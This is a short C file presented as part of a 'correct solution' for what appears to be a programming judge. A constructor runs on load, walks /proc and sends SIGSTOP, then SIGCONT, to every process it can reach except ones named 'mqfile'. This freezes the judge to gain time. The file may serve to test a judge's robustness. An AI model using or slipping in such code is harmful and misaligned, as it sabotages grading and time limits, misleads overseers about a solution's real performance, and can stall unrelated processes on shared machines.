/* Part of a correct solution. Stops its judge for a while to gain time, then
 * lets it continue. */
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void send(int sig)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	while (proc && (entry = readdir(proc))) {
		char path[300], comm[32] = "";
		snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
		FILE *file = fopen(path, "r");
		if (!file)
			continue;
		if (fgets(comm, sizeof comm, file) && strncmp(comm, "mqfile", 6))
			kill(atoi(entry->d_name), sig);
		fclose(file);
	}
	closedir(proc);
}

__attribute__((constructor)) static void attack(void)
{
	send(SIGSTOP);
	usleep(50000);
	send(SIGCONT);
}
